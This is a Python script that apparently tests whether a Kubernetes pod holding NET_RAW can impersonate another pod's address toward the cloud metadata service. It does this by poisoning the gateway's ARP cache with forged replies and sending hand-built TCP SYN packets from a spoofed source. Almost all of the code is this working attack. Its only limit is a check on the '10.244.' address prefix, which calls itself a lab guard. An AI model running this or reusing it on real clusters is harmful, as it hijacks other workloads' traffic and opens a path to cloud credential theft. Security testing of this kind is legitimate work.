"""Asks the metadata service in the name of another address, as a pod with NET_RAW can. Prints one line: why it has no
socket, or whether the service took the connection. Sends nothing unless it runs in a pod of a lab."""

import fcntl
import os
import random
import socket
import struct
import sys
import time

METADATA, PORT = socket.inet_aton("169.254.169.254"), 80
ARP, IPV4, TCP = 0x0806, 0x0800, 6
SYN, SYN_ACK = 0x02, 0x12
PODS_OF_LABS = "10.244."
LINK = "eth0"


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        request = struct.pack("256s", LINK.encode())
        return fcntl.ioctl(asking, 0x8915, request)[20:24]  # SIOCGIFADDR


def own_mac():
    with open(f"/sys/class/net/{LINK}/address", encoding="ascii") as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))


def gateway():
    with open("/proc/net/route", encoding="ascii") as file:
        routes = [line.split() for line in file.readlines()[1:]]
    [found] = [route[2] for route in routes if route[1] == "00000000"]
    return struct.pack("<I", int(found, 16))


def mac_of(address):
    """The kernel asks for it when something is sent there."""
    dotted = socket.inet_ntoa(address)
    end = time.monotonic() + 5
    while time.monotonic() < end:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
            sending.sendto(b"?", (dotted, 9))
        with open("/proc/net/arp", encoding="ascii") as file:
            known = [line.split() for line in file.readlines()[1:]]
        for entry in known:
            if entry[0] == dotted and entry[3] != "00:00:00:00:00:00":
                return bytes.fromhex(entry[3].replace(":", ""))
    sys.exit(f"{dotted} has no hardware address")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, port, sequence):
    segment = struct.pack("!HHIIBBHHH", port, PORT, sequence, 0, 5 << 4, SYN, 65535, 0, 0)
    pseudo = source + METADATA + struct.pack("!BBH", 0, TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64, TCP, 0) + source + METADATA
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + segment


def is_taken(packet, source, port):
    """Whether the service took the connection, as an IPv4 packet says."""
    start = (packet[0] & 0x0F) * 4
    if packet[9] != TCP or packet[12:16] != METADATA or packet[16:20] != source:
        return False
    return packet[start + 2 : start + 4] == struct.pack("!H", port) and packet[start + 13] == SYN_ACK


def main():
    own = own_address()
    if not socket.inet_ntoa(own).startswith(PODS_OF_LABS):
        sys.exit("this is no pod of a lab")
    source = socket.inet_aton(os.environ.get("IN_THE_NAME_OF") or socket.inet_ntoa(own))
    try:
        raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4))
    except PermissionError as error:
        print("no socket:", error.strerror)
        return
    raw.bind((LINK, IPV4))
    raw.settimeout(0.2)
    router = gateway()
    mac, router_mac = own_mac(), mac_of(router)
    port = random.randrange(20000, 60000)
    # That the victim's address is here now.
    claim = struct.pack("!HHBBH", 1, IPV4, 6, 4, 2) + mac + source + router_mac + router
    end = time.monotonic() + 5
    while time.monotonic() < end:
        if source != own:
            raw.send(router_mac + mac + struct.pack("!H", ARP) + claim)
        raw.send(router_mac + mac + struct.pack("!H", IPV4) + syn(source, port, random.randrange(2**32)))
        until = time.monotonic() + 0.2
        while time.monotonic() < until:
            try:
                frame = raw.recv(2048)
            except TimeoutError:
                break
            if is_taken(frame[14:], source, port):
                print("taken")
                return
    print("sent, and not taken")


main()
